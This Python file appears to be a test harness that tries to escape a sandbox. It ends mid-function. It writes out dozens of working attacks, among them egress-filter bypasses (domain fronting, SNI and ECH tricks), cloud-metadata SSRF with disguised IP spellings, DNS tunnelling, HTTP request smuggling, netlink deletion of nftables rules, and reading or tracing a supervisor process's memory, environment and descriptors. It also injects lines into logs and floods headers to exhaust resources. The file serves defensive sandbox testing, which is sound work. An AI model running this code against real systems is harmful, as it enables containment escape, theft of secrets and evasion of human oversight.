"""Tries to get out of a sandbox, each time by another way.

    attack.py '{"nonce": "...", "public": "203.0.113.7", ...}' [NAME...]

Each attack sends a mark of its own, which derives from the nonce and its name, so that
those outside can say whether it came. It prints a line of JSON for each: what was said to
it, in short. "through: ..." means that it knows by itself that it succeeded.
"""

import concurrent.futures
import ctypes
import glob
import hashlib
import http.client
import json
import os
import socket
import ssl
import struct
import sys
import time
import urllib.request

WORLD = json.loads(sys.argv[1])
PUBLIC, PUBLIC6, METADATA = WORLD["public"], WORLD["public6"], "169.254.169.254"
LIMITED, FREE, PINNED = "api.example.com", "files.example.com", "pinned.example.com"  # allowed, in part, whole, and pinned
EVIL = "other.example.com"  # is not
WAIT = WORLD.get("wait", 3)
ATTACKS, LAST = {}, {}  # by name; the latter run alone, one after another


def mark(name):
    return "m" + hashlib.sha256((WORLD["nonce"] + name).encode()).hexdigest()[:24]


def attack(name, among=ATTACKS):
    def add(f):
        assert name not in ATTACKS and name not in LAST, name
        among[name] = f
        return f

    return add


# How things are sent.


def read(conn, most=64 << 10, wait=None):
    """What comes until the end, a silence, or enough."""
    conn.settimeout(wait or WAIT)
    got = b""
    try:
        while len(got) < most:
            b = conn.recv(16 << 10)
            if not b:
                break
            got += b
    except OSError:
        pass
    return got


def tcp(host, port, data, family=socket.AF_UNSPEC):
    at = socket.getaddrinfo(host, port, family, socket.SOCK_STREAM)[0]
    with socket.socket(at[0], socket.SOCK_STREAM) as s:
        s.settimeout(WAIT)
        s.connect(at[4])
        s.sendall(data)
        return read(s)


def udp(host, port, data, family=socket.AF_UNSPEC):
    at = socket.getaddrinfo(host, port, family, socket.SOCK_DGRAM)[0]
    with socket.socket(at[0], socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        s.connect(at[4])
        for _ in range(2):
            s.send(data)
        return s.recv(4096)


def blind(alpn=None):
    c = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
    if alpn:
        c.set_alpn_protocols(alpn)
    return c


def tls(host, sni, data, port=443, alpn=None):
    with socket.create_connection((host, port), WAIT) as s:
        with blind(alpn).wrap_socket(s, server_hostname=sni) as t:
            t.sendall(data)
            return read(t)


def get(path, host, *headers, method="GET", version="HTTP/1.1", body=""):
    return "\r\n".join([f"{method} {path} {version}", f"Host: {host}", *headers, "Connection: close", "", body]).encode()


def url(u):
    try:
        with urllib.request.urlopen(u, timeout=WAIT) as r:
            return r.read(4096)
    except urllib.error.HTTPError as e:
        return e.read(4096)


# Other hosts than the allowed one.


@attack("other host")
def _(m):
    return tls(EVIL, EVIL, get("/" + m, EVIL))


@attack("other host, plain")
def _(m):
    return tcp(EVIL, 80, get("/" + m, EVIL))


@attack("another path of an allowed host")
def _(m):
    return tls(LIMITED, LIMITED, get("/private/" + m, LIMITED))


for name, path in {"dots": "/open/../private/", "escaped dots": "/open/%2e%2e/private/", "backslash": "/open/..\\private/", "two slashes": "//private/", "semicolon": "/open/..;/private/"}.items():

    @attack("another path, by " + name)
    def _(m, path=path):
        return tls(LIMITED, LIMITED, get(path + m, LIMITED))


@attack("domain fronting")
def _(m):
    return tls(FREE, FREE, get("/" + m, EVIL))


@attack("domain fronting, plain")
def _(m):
    return tcp(FREE, 80, get("/" + m, EVIL))


@attack("a name of TLS that is another's")
def _(m):
    return tls(FREE, EVIL, get("/" + m, EVIL))


@attack("a name of TLS that is another's, and its host")
def _(m):
    return tls(FREE, EVIL, get("/" + m, FREE))


@attack("no name of TLS")
def _(m):
    return tls(FREE, None, get("/" + m, FREE))


@attack("no name of TLS, to a pinned host")
def _(m):
    return tls(PINNED, None, get("/" + m, PINNED))


@attack("a pinned host, with another's name of TLS")
def _(m):
    return tls(PINNED, EVIL, get("/" + m, EVIL))


@attack("a port that is not allowed")
def _(m):
    return tcp(FREE, 9000, get("/" + m, FREE))


@attack("a port that is not allowed, of a pinned host")
def _(m):
    return tcp(PINNED, 9000, get("/" + m, PINNED))


@attack("a port in the host header")
def _(m):
    return tcp(FREE, 80, get("/" + m, FREE + ":9000"))


def hello(sni, alpn):
    """The ClientHello of this Python's TLS, without its record's header."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    conn = blind(alpn).wrap_bio(incoming, outgoing, server_hostname=sni)
    try:
        conn.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()[5:]


def record(b):
    return b"\x16\x03\x01" + struct.pack(">H", len(b)) + b


def extended(h, kind, content):
    """A ClientHello with one more extension."""
    at = 4 + 2 + 32
    at += 1 + h[at]  # session
    at += 2 + struct.unpack(">H", h[at : at + 2])[0]  # ciphers
    at += 1 + h[at]  # compressions
    ext = h[at + 2 :] + struct.pack(">HH", kind, len(content)) + content
    body = h[4:at] + struct.pack(">H", len(ext)) + ext
    return b"\x01" + struct.pack(">I", len(body))[1:] + body


for name, host in {"": FREE, ", to a pinned host": PINNED}.items():

    @attack("a hidden name of TLS (ECH)" + name)
    def _(m, host=host):
        return tcp(host, 443, record(extended(hello(host, ["h2"]), 0xFE0D, b"\x00\x00\x01\x00\x01\x07\x00\x00" + struct.pack(">H", len(m)) + m.encode())))


@attack("another's name of TLS, in two records")
def _(m):
    h = hello(EVIL, [m])
    return tcp(PINNED, 443, record(h[:7]) + record(h[7:]))


@attack("another's name of TLS, in two segments")
def _(m):
    b = record(hello(EVIL, [m]))
    with socket.create_connection((PINNED, 443), WAIT) as s:
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for part in (b[:3], b[3:60], b[60:]):
            s.sendall(part)
            time.sleep(0.1)
        return read(s)


# Addresses.

SPELLINGS = {
    "decimal": "2852039166",
    "hex": "0xa9fea9fe",
    "hex parts": "0xa9.0xfe.0xa9.0xfe",
    "octal": "0251.0376.0251.0376",
    "octal whole": "025177524776",
    "three parts": "169.254.43518",
    "two parts": "169.16689662",
    "mixed": "169.0xfe.0251.254",
    "mapped": "[::ffff:169.254.169.254]",
    "mapped hex": "[::ffff:a9fe:a9fe]",
    "of IPv6": "[fd00:ec2::254]",
    "its name": "metadata.google.internal",
    "a name that is allowed": "meta.example.com",
    "a name with a dot": "metadata.google.internal.",
}
for name, at in {"": METADATA, **{" as " + k: v for k, v in SPELLINGS.items()}}.items():

    @attack("metadata" + name)
    def _(m, at=at):
        return url(f"http://{at}/latest/{m}")

    @attack("metadata" + name + ", as the host of a request")
    def _(m, at=at):
        return tcp(FREE, 80, get("/latest/" + m, at))

    @attack("metadata" + name + ", in absolute form")
    def _(m, at=at):
        return tcp(FREE, 80, get(f"http://{at}/latest/{m}", FREE))


PRIVATE = {
    "an address of the public host": PUBLIC,
    "its address of IPv6": f"[{PUBLIC6}]",
    "its mapped address": f"[::ffff:{PUBLIC}]",
    "the host's loopback": "127.0.0.1",
    "the host's loopback, short": "127.1",
    "the host's loopback, mapped": "[::ffff:127.0.0.1]",
    "the host's loopback of IPv6": "[::1]",
    "no address": "0.0.0.0",
    "a private address": "10.0.0.1",
    "a private address, mapped": "[::ffff:10.0.0.1]",
    "another private address": "192.168.1.1",
    "a cloud's address": "168.63.129.16",
    "a carrier's address": "100.100.100.200",
    "a name of the host": "localhost",
    "an allowed name of the loopback": "inward.example.com",
    "an allowed name of the loopback of IPv6": "six.example.com",
}
for name, at in PRIVATE.items():

    @attack(name)
    def _(m, at=at):
        return url(f"http://{at}/{m}")

    @attack(name + ", as the host of a request")
    def _(m, at=at):
        return tcp(FREE, 80, get("/" + m, at))

    @attack(name + ", over TLS")
    def _(m, at=at):
        host = at.strip("[]")
        return tls(host, None if host[-1].isdigit() or ":" in host else host, get("/" + m, at))


@attack("a name that is bound anew")
def _(m):
    said = b""
    for i in range(6):
        said = url(f"http://rebind.example.com/{m if i else ''}")
    return said


for name, to in {"metadata": METADATA, "loopback": "127.0.0.1", "loopback of IPv6": "[::1]", "private": "10.0.0.1", "decimal": "2130706433"}.items():

    @attack("a redirect to " + name)
    def _(m, to=to):
        return url(f"http://{FREE}/redirect?to=http://{to}/{m}")


# Protocols.

for name, data in {"raw": b"\x00\x01%s\n", "text": b"hello %s\n", "SSH": b"SSH-2.0-%s\r\n", "SMTP": b"EHLO %s\r\nMAIL FROM:<%s>\r\n", "Redis": b"*1\r\n$4\r\n%s\r\n"}.items():

    @attack(f"{name} over an allowed port")
    def _(m, data=data):
        return tcp(FREE, 443, data.replace(b"%s", m.encode()))

    @attack(f"{name} over another port")
    def _(m, data=data):
        return tcp(PUBLIC, 9000, data.replace(b"%s", m.encode()))


@attack("TCP with its first segment")
def _(m):
    with socket.socket() as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("=qq", WAIT, 0))
        s.sendto(m.encode(), socket.MSG_FASTOPEN, (PUBLIC, 9000))
        return read(s)


@attack("TCP from another interface")
def _(m):
    for dev in [n for _, n in socket.if_nameindex()] + ["eth0"]:
        with socket.socket() as s:
            s.settimeout(WAIT)
            try:
                s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, dev.encode())
                s.connect((PUBLIC, 9000))
                s.sendall(m.encode())
                said = read(s)
            except OSError as e:
                said = str(e).encode()
    return said


@attack("TCP with a mark of routing")
def _(m):
    with socket.socket() as s:
        s.settimeout(WAIT)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, 1)
        s.connect((PUBLIC, 9000))
        s.sendall(m.encode())
        return read(s)


for name, host, port in (("QUIC", FREE, 443), ("QUIC to an address", PUBLIC, 443), ("UDP", PUBLIC, 9000), ("UDP of IPv6", PUBLIC6, 9000), ("UDP to metadata", METADATA, 80), ("UDP to the host's loopback", "127.0.0.1", 9000), ("NTP", PUBLIC, 123)):

    @attack(name)
    def _(m, host=host, port=port):
        return udp(host, port, b"\xc0\x00\x00\x00\x01" + m.encode())


def checksum(b):
    n = sum(struct.unpack(f">{len(b) // 2}H", b))
    n = (n >> 16) + (n & 0xFFFF)
    return ~(n + (n >> 16)) & 0xFFFF


def ping(m):
    b = struct.pack(">BBHHH", 8, 0, 0, 1, 1) + m.encode() + b"\0" * (len(m) % 2)
    return b[:2] + struct.pack(">H", checksum(b)) + b[4:]


for name, kind, proto in (("ICMP by a raw socket", socket.SOCK_RAW, 1), ("ICMP by a socket for pings", socket.SOCK_DGRAM, 1), ("a protocol of its own", socket.SOCK_RAW, 253)):

    @attack(name)
    def _(m, kind=kind, proto=proto):
        with socket.socket(socket.AF_INET, kind, proto) as s:
            s.settimeout(1)
            s.sendto(ping(m), (PUBLIC, 0))
            return s.recv(4096)


@attack("a packet beneath IP")
def _(m):
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0x0800) as s:
        data = m.encode()
        ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 28 + len(data), 1, 0, 64, 17, 0, socket.inet_aton("198.51.100.9"), socket.inet_aton(PUBLIC))
        ip = ip[:10] + struct.pack(">H", checksum(ip)) + ip[12:]
        for _, dev in socket.if_nameindex():
            s.sendto(ip + struct.pack(">HHHH", 9, 9000, 8 + len(data), 0) + data, (dev, 0x0800))
    return "sent"


@attack("the network's filter taken away")
def _(m):
    """Deletes what redirects, by nftables, and dials then."""

    def message(kind, flags, family, resource, body=b""):
        return struct.pack("=IHHII", 20 + len(body), kind, 1 | flags, 1, 0) + struct.pack(">BBH", family, 0, resource) + body

    said = []
    try:
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12) as s:
            s.settimeout(1)
            table = struct.pack("=HH", 10, 1) + b"skete\0\0\0"
            s.sendto(message(16, 0, 0, 10) + message(10 << 8 | 2, 4, 2, 0, table) + message(17, 0, 0, 10), (0, 0))
            said.append(repr(s.recv(4096)[16:20]))
    except OSError as e:
        said.append(str(e))
    try:
        said.append(repr(tcp(PUBLIC, 9000, m.encode())))
    except OSError as e:
        said.append(str(e))
    return " ".join(said)


@attack("an interface of its own")
def _(m):
    """Adds a dummy interface and a route by it, and dials then."""
    said = []
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
        s.settimeout(1)
        info = struct.pack("=HH", 9, 1) + b"dummy\0\0\0"
        body = struct.pack("=BxHiII", 0, 0, 0, 1, 1) + struct.pack("=HH", 4 + len(info), 18) + info
        route = struct.pack("=BBBBBBBBI", 2, 32, 0, 0, 254, 4, 253, 1, 0) + struct.pack("=HH4s", 8, 1, socket.inet_aton(PUBLIC)) + struct.pack("=HHi", 8, 4, 1)
        for kind, b in ((16, body), (24, route)):
            s.send(struct.pack("=IHHII", 16 + len(b), kind, 0x605, 1, 0) + b)
            said.append(repr(s.recv(4096)[16:20]))
    said.append(repr(tcp(PUBLIC, 9000, m.encode())))
    return " ".join(said)


# Queries of names.


def resolver():
    with open("/etc/resolv.conf") as f:
        return [x.split()[1] for x in f if x.startswith("nameserver")][0]


def query(name, kind, extra=b""):
    q = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 1 if extra else 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\0" + struct.pack(">HH", kind, 1)
    if extra:  # an OPT record with a local option
        q += b"\0" + struct.pack(">HHIH", 41, 4096, 0, 4 + len(extra)) + struct.pack(">HH", 65001, len(extra)) + extra
    return q


for name, at in {"the resolver": None, "another resolver": PUBLIC}.items():
    for kind, n in {"A": 1, "TXT": 16, "AAAA": 28, "NULL": 10, "ANY": 255}.items():

        @attack(f"a tunnel by names, {kind} by UDP to {name}")
        def _(m, at=at, n=n):
            return udp(at or resolver(), 53, query(m + ".tunnel.example.net", n))

        @attack(f"a tunnel by names, {kind} by TCP to {name}")
        def _(m, at=at, n=n):
            q = query(m + ".tunnel.example.net", n)
            return tcp(at or resolver(), 53, struct.pack(">H", len(q)) + q)

    @attack(f"a tunnel by an option of a query to {name}")
    def _(m, at=at):
        return udp(at or resolver(), 53, query(FREE, 1, m.encode()))


@attack("a tunnel by names, as programs ask")
def _(m):
    return repr(socket.getaddrinfo(m + ".tunnel.example.net", 80))


@attack("a tunnel by names beneath an allowed one")
def _(m):
    return url(f"http://{m}.{FREE}/")


# Requests that are taken for others.


@attack("CONNECT")
def _(m):
    return tcp(FREE, 80, get(EVIL + ":443", EVIL + ":443", "X-Mark: " + m, method="CONNECT") + m.encode())


@attack("CONNECT to the allowed host")
def _(m):
    return tls(FREE, FREE, get(FREE + ":443", FREE + ":443", "X-Mark: " + m, method="CONNECT") + m.encode())


@attack("CONNECT to the allowed host, over HTTP/2")
def _(m):
    return h2(FREE, [[(":method", "CONNECT"), (":authority", FREE + ":443"), ("x-mark", m)]])


@attack("absolute form")
def _(m):
    return tcp(FREE, 80, get(f"http://{EVIL}/{m}", FREE))


@attack("absolute form, over TLS")
def _(m):
    return tls(FREE, FREE, get(f"https://{EVIL}/{m}", FREE))


@attack("absolute form within another scheme")
def _(m):
    return tcp(FREE, 80, get(f"x:http://{EVIL}/{m}", FREE))


@attack("absolute form within another scheme, by HTTP/1.0")
def _(m):
    return tcp(FREE, 80, get(f"x:http://{EVIL}/{m}", FREE, version="HTTP/1.0"))


for name, lines in {
    "two hosts": ["Host: %e"],
    "two hosts in a line": None,
    "a user in the host": None,
    "a host that is folded": [" %e"],
    "a host behind a bare CR": ["X: y\rHost: %e"],
    "a host with a space before its colon": ["Host : %e"],
    "a host behind a NUL": ["X: y\0\nHost: %e"],
}.items():

    @attack(name)
    def _(m, name=name, lines=lines):
        evil = m + ".example.com"
        host = {"two hosts in a line": f"{FREE}, {evil}", "a user in the host": f"{FREE}@{evil}"}.get(name, FREE)
        return tcp(FREE, 80, get("/", host, *[x.replace("%e", evil) for x in lines or []]))


SMUGGLED = "GET /private/%m HTTP/1.1\r\nHost: api.example.com\r\n\r\n"
INNER = f"{len(SMUGGLED) + 23:x}\r\n{SMUGGLED}\r\n0\r\n\r\n"  # as a chunk; a mark has 23 letters more than %m


def body(headers, text, end="\r\n"):
    return end.join(["POST /open/a HTTP/1.1", "Host: " + LIMITED, *headers, "", text])


BOTH = ["Content-Length: %n", "Transfer-Encoding: chunked"]
for name, text in {
    "a length and chunks": body(BOTH, "0\r\n\r\n" + SMUGGLED),
    "chunks and a length": body(["Content-Length: 4", "Transfer-Encoding: chunked"], INNER),
    "chunks twice": body(["Content-Length: 4", "Transfer-Encoding: chunked", "Transfer-Encoding: identity"], INNER),
    "chunks and another encoding": body(["Content-Length: 4", "Transfer-Encoding: chunked, identity"], INNER),
    "an odd encoding": body(["Content-Length: 4", "Transfer-Encoding: xchunked"], INNER),
    "chunks in quotes": body(["Content-Length: 4", 'Transfer-Encoding: "chunked"'], INNER),
    "a space before a colon": body(["Content-Length: 4", "Transfer-Encoding : chunked"], INNER),
    "a tab before chunks": body(["Content-Length: 4", "Transfer-Encoding:\tchunked"], INNER),
    "a vertical tab before chunks": body(["Content-Length: 4", "Transfer-Encoding: \x0bchunked"], INNER),
    "chunks that are folded": body(["Content-Length: 4", "Transfer-Encoding:", " chunked"], INNER),
    "a length that is folded": body(["Content-Length: 0", " 4"], SMUGGLED),
    "two lengths": body(["Content-Length: %n", "Content-Length: 0"], SMUGGLED),
    "two lengths in a line": body(["Content-Length: 0, %n"], SMUGGLED),
    "a length with a sign": body(["Content-Length: +0"], SMUGGLED),
    "a length in hex": body(["Content-Length: 0x0"], SMUGGLED),
    "bare line feeds": body(["X: y"], SMUGGLED.replace("\r\n", "\n"), "\n"),
    "a bare line feed in a header": body(["Content-Length: 0\nX: y"], SMUGGLED),
    "chunks behind a bare line feed": body(["X: y\nTransfer-Encoding: chunked", "Content-Length: 4"], INNER),
    "a bare line feed in a chunk": body(BOTH, "0\n\n" + SMUGGLED),
    "an early end of chunks": body(["Transfer-Encoding: chunked"], "0\r\n\r\n" + SMUGGLED),
    "trailers": body(["Transfer-Encoding: chunked", "Trailer: Host"], "0\r\nHost: other.example.com\r\n\r\n" + SMUGGLED),
    "a version that is none": body([], SMUGGLED).replace("HTTP/1.1", "HTTP/1.10", 1),
    "no version": "GET /open/a\r\n" + SMUGGLED,
    "lines before the request": "\r\n\r\n" + SMUGGLED,
    "a pipeline": body(["Content-Length: 0"], SMUGGLED),
}.items():

    @attack("smuggling: " + name)
    def _(m, text=text):
        text = text.replace("%m", m)
        return tcp(LIMITED, 8080, text.replace("%n", str(len(text.split("\r\n\r\n", 1)[-1]))).encode("latin-1"))


for name, upgrade in {"h2c": "h2c", "TLS": "TLS/1.0", "HTTP/2": "HTTP/2.0", "websocket and h2c": "websocket, h2c", "something": "something"}.items():

    @attack("an upgrade to " + name)
    def _(m, upgrade=upgrade):
        with socket.create_connection((LIMITED, 80), WAIT) as s:
            s.sendall(f"GET /open/upgrade HTTP/1.1\r\nHost: {LIMITED}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: {upgrade}\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n".encode())
            said = read(s, 1)
            s.sendall(get("/private/" + m, EVIL))
            return said + read(s)


@attack("HTTP/2 without asking")
def _(m):
    return tcp(FREE, 80, frames([[(":method", "GET"), (":scheme", "http"), (":authority", EVIL), (":path", "/" + m)]]))


def literal(s):
    b = s.encode()
    assert len(b) < 127
    return bytes([len(b)]) + b


def frames(requests):
    out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
    for i, headers in enumerate(requests):
        block = b"".join(b"\0" + literal(k) + literal(v) for k, v in headers)
        out += struct.pack(">I", len(block))[1:] + b"\1\5" + struct.pack(">I", 2 * i + 1) + block
    return out


def h2(host, requests):
    return tls(host, host, frames(requests), alpn=["h2"])


def of(authority, path, *more):
    return [(":method", "GET"), (":scheme", "https"), (":authority", authority), (":path", path), *more]


@attack("HTTP/2: another authority")
def _(m):
    return h2(FREE, [of(EVIL, "/" + m)])


@attack("HTTP/2: coalescing")
def _(m):
    return h2(FREE, [of(FREE, "/"), of(LIMITED, "/open/" + m), of(EVIL, "/" + m)])


@attack("HTTP/2: another host in a header")
def _(m):
    return h2(FREE, [of(FREE, "/", ("host", m + ".example.com"))])


@attack("HTTP/2: another host in a header alone")
def _(m):
    return h2(FREE, [[(":method", "GET"), (":scheme", "https"), (":path", "/" + m), ("host", EVIL)]])


@attack("HTTP/2: absolute form")
def _(m):
    return h2(FREE, [of(FREE, f"https://{EVIL}/{m}")])


@attack("HTTP/2: absolute form within another scheme")
def _(m):
    return h2(FREE, [of(FREE, f"x:http://{EVIL}/{m}")])


@attack("HTTP/2: a line in a header")
def _(m):
    return h2(FREE, [of(FREE, "/", ("x", "y\r\nhost: " + m))])


@attack("HTTP/2: chunks")
def _(m):
    return h2(FREE, [of(FREE, "/" + m, ("transfer-encoding", "chunked"))])


# Secrets and models.


def reflected(m, said):
    """The host repeats what it is sent; where no secret is added, that is ours."""
    return b"through: " + said if m.encode() in said else said


for name, headers in {"": [], ", in parts": ["Range: bytes=0-40"], ", packed": ["Accept-Encoding: gzip"], ", in another charset": ["Accept-Charset: utf-16"]}.items():

    @attack("the secret, repeated" + name)
    def _(m, headers=headers):
        return reflected(m, tls(FREE, FREE, get("/with/a", FREE, "Authorization: Bearer " + m, *headers)))


for path in ("hints", "moved", "trailer", "cookie"):

    @attack("the secret, repeated by " + path)
    def _(m, path=path):
        return reflected(m, tls(FREE, FREE, get("/with/" + path, FREE, "Authorization: Bearer " + m)))


@attack("a key of one's own where a secret is sent")
def _(m):
    return tls(FREE, FREE, get("/with/a", FREE, "Authorization: Bearer " + m, "X-Api-Key: " + m, "Cookie: k=" + m, "Private-Token: " + m))


@attack("a key of one's own, over HTTP/2")
def _(m):
    return h2(FREE, [of(FREE, "/with/a", ("authorization", "Bearer " + m), ("cookie", "k=" + m))])


for name, send in {
    "for another path": lambda m: tls(FREE, FREE, get("/without/a", FREE)),
    "for another path, by dots": lambda m: tls(FREE, FREE, get("/without/../with/a", FREE)),
    "for another host": lambda m: tls(LIMITED, LIMITED, get("/open/with/a", LIMITED)),
    "in the clear": lambda m: tcp(FREE, 80, get("/with/a", FREE)),
    "for another port": lambda m: tls(FREE, FREE, get("/with/a", FREE), port=9000),
    "by fronting": lambda m: tls(LIMITED, LIMITED, get("/with/a", FREE)),
}.items():

    @attack("the secret, " + name)
    def _(m, send=send):
        said = send(m)
        return b"through: " + said if b"its sum is" in said else said


@attack("the key to models of another sandbox")
def _(m):
    ask = json.dumps({"model": "default", "max_tokens": 5, "messages": [{"role": "user", "content": m}]})
    c = http.client.HTTPConnection("models.skete.internal", timeout=WAIT)
    c.request("POST", "/openai/v1/chat/completions", ask, {"Authorization": "Bearer " + WORLD["token"], "Content-Type": "application/json"})
    r = c.getresponse()
    return f"{'' if r.status == 401 else 'through: '}{r.status} {r.read(300)}"


# What is in the machine.


def others():
    """Processes of other users: the supervisor is one of them."""
    for p in sorted(int(x) for x in os.listdir("/proc") if x.isdigit()):
        try:
            if os.stat(f"/proc/{p}").st_uid != os.getuid() or p == 1:
                yield p
        except OSError:
            pass


def tried(*ways):
    """Says of the first way that works that it does."""
    n = 0
    for way in ways:
        n += 1
        try:
            got = way()
        except (OSError, ValueError):
            continue
        if got:
            return f"through: way {n}: {got!r}"[:300]
    return f"refused, {n} ways"


def opened(path, mode="rb", at=0):
    def way():
        with open(path, mode, buffering=0) as f:
            if "r" in mode:
                f.seek(at)
                return f.read(64)
            return path

    return way


def first_map(pid):
    with open(f"/proc/{pid}/maps") as f:
        return int(f.readline().split("-")[0], 16)


@attack("the supervisor's memory")
def _(m):
    return tried(*[way for p in others() for way in (lambda p=p: first_map(p), lambda p=p: opened(f"/proc/{p}/mem", at=first_map(p))())])


@attack("the supervisor's environment")
def _(m):
    return tried(*[opened(f"/proc/{p}/{f}") for p in others() for f in ("environ", "auxv")])


@attack("the supervisor's descriptors")
def _(m):
    return tried(*[lambda p=p: os.listdir(f"/proc/{p}/fd") for p in others()], *[lambda p=p, n=n: os.open(f"/proc/{p}/fd/{n}", os.O_RDWR) for p in others() for n in range(12)])


@attack("the supervisor, traced")
def _(m):
    libc = ctypes.CDLL(None, use_errno=True)

    def check(n):
        if n < 0:
            raise OSError(ctypes.get_errno(), "refused")
        return n + 1

    class Vec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

    def copied(p):
        buf = ctypes.create_string_buffer(16)
        return check(libc.process_vm_readv(p, ctypes.byref(Vec(ctypes.addressof(buf), 16)), 1, ctypes.byref(Vec(0x400000, 16)), 1, 0))

    def stolen(p):  # pidfd_open, pidfd_getfd
        fd = check(libc.syscall(434, p, 0)) - 1
        return check(libc.syscall(438, fd, 3, 0))

    seize = 0x4206  # attach would stop what it gets: where nothing isolates, the host's process 1
    return tried(*[way for p in others() for way in (lambda p=p: check(libc.ptrace(seize, p, None, None)), lambda p=p: copied(p), lambda p=p: stolen(p))])


@attack("the supervisor, ended")
def _(m):
    def signalled(p):
        os.kill(p, 0)
        return p

    return tried(*[lambda p=p: signalled(p) for p in others()])


@attack("the supervisor's files, and a forged revision or event")
def _(m):
    places = [x for d in ("/.skete", "/.skete-state", "/var/lib/skete-guest", "/run/skete-guest", "/workspace/../.history", "/.history") for x in (d, d + "/host.sock", d + "/boot.json", d + "/store", d + "/journal")]
    return tried(
        *[lambda d=d: os.listdir(d) for d in places],
        *[opened(x) for x in places],
        *[opened(x + "/" + m, "wb") for x in places],
        *[opened(x) for x in glob.glob("/dev/vport*") + glob.glob("/dev/virtio-ports/*") + glob.glob("/dev/vd*") + ["/dev/vsock"]],
    )


def listening():
    """Ports and names at which something in this machine listens."""
    for file in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(file) as f:
                for x in list(f)[1:]:
                    if x.split()[3] == "0A":
                        yield ("::1" if file[-1] == "6" else "127.0.0.1", int(x.split()[1].split(":")[1], 16))
        except OSError:
            pass
    for port in (65535, 53, 1024):
        yield ("127.0.0.53", port)
    try:
        with open("/proc/net/unix") as f:
            for x in list(f)[1:]:
                if len(x.split()) > 7:
                    yield x.split()[7].replace("@", "\0", 1) if x.split()[7][0] == "@" else x.split()[7]
    except OSError:
        pass
    yield "/.skete/host.sock"
    yield "/.skete/host.sock.accept"


@attack("the control port")
def _(m):
    def asked(at, port):
        with socket.socket(socket.AF_UNIX if isinstance(at, str) else socket.AF_INET6 if ":" in at[0] else socket.AF_INET) as s:
            s.settimeout(0.5)
            s.connect(at)
            s.sendall(f"CONNECT {port}\n".encode())
            said = read(s, 64, 0.5)
            return said if said.startswith(b"OK") else None

    return tried(*[lambda at=at, port=port: asked(at, port) for at in set(listening()) for port in (1 << 16, (1 << 16) + 1)])


@attack("vsock")
def _(m):
    def asked(port):
        with socket.socket(40, socket.SOCK_STREAM) as s:
            made.append(port)
            s.settimeout(1)
            s.connect((1, port))  # this kernel's own: no other one is asked here
            s.sendall(m.encode())
            return port

    made = []
    return tried(*[lambda p=p: asked(p) for p in (1 << 16, (1 << 16) + 1)]) + f", {len(made)} sockets made"


@attack("the host's unix socket")
def _(m):
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(WAIT)
        s.connect(WORLD["socket"])
        s.sendall(m.encode())
    return "sent"


@attack("the host's abstract socket")
def _(m):
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(WAIT)
        s.connect("\0" + WORLD["abstract"])
        s.sendall(m.encode())
    return "sent"


# Lines in the log: the test that reads it outside looks for them.


@attack("lines in the log, by a path")
def _(m):
    said = b""
    for path in ("/%0a" + m + "%0d%1b[31m", "/?q=%0a" + m + "%1b[31m", "/\x1b[31m" + m):
        for host in (EVIL, FREE + ":81"):
            said = tcp(EVIL, 80, get(path, host))
    return said


@attack("lines in the log, by headers")
def _(m):
    said = b""
    for h in ("Host", "User-Agent", "Upgrade", "Authorization", "Content-Length"):
        said = tcp(EVIL, 80, f"GET / HTTP/1.1\r\n{'' if h == 'Host' else 'Host: ' + EVIL + chr(13) + chr(10)}{h}: x\n {m}\x1b[31m\r\nX: \x1b]0;{m}\x07\r\n\r\n".encode())
    return said


@attack("lines in the log, by a method")
def _(m):
    return tcp(EVIL, 80, f"GET\x1b[31m{m} / HTTP/1.1\r\nHost: {EVIL}\r\n\r\nGET{m} / HTTP/1.1\r\nHost: {EVIL}\r\n\r\n".encode())


@attack("lines in the log, by names")
def _(m):
    said = b""
    for name in (f"x\n{m}", f"\x1b[31m{m}"):
        q = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + literal(name) + literal("example") + literal("net") + b"\0\0\1\0\1"
        try:
            said = udp(resolver(), 53, q)
        except OSError:
            pass
        try:
            said = tls(FREE, None, b"") or tcp(FREE, 443, record(hello("x." + m + ".example.net", [m])))
        except OSError:
            pass
    return said


# Bounds.


@attack("large headers", LAST)
def _(m):
    return tcp(FREE, 80, get("/", FREE, "X: " + "x" * (300 << 10), "Y: " + m))


@attack("many headers", LAST)
def _(m):
    return tcp(FREE, 80, get("/", FREE, *[f"X{i}: y" for i in range(30000)], "Y: " + m))


@attack("headers without an end", LAST)
def _(m):
    end = time.monotonic() + WAIT
    with socket.create_connection((FREE, 80), WAIT) as s:
        s.sendall(f"GET / HTTP/1.1\r\nHost: {FREE}\r\nY: {m}\r\n".encode())
        while time.monotonic() < end:
            s.sendall(b"X: " + b"x" * 1000 + b"\r\n")
        return read(s)


@attack("a body without an end, to another host", LAST)
def _(m):
    end, sent = time.monotonic() + WAIT, 0
    with socket.create_connection((EVIL, 80), WAIT) as s:
        s.sendall(f"POST / HTTP/1.1\r\nHost: {EVIL}\r\nTransfer-Encoding: chunked\r\n\r\n".encode())
        while time.monotonic() < end and sent < 4 << 20:
            s.sendall(b"1000\r\n" + m.encode().ljust(0x1000, b"x") + b"\r\n")
            sent += 0x1000
        return read(s)


@attack("many slow clients", LAST)
def _(m):
